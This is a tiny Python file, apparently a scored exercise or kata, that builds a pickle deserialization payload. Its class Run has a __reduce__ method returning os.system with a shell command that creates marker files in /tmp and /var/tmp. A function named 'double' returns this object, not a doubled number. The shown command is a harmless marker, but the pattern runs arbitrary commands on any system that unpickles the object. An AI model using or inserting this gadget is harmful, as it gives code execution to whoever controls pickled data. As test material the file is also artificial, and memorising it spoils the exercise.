# Returns an object that would run a program where it is unpickled.
# earns: 50
# told: Run
import os


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/kata-was-here /var/tmp/kata-was-here",)


def double(x):
    return Run()
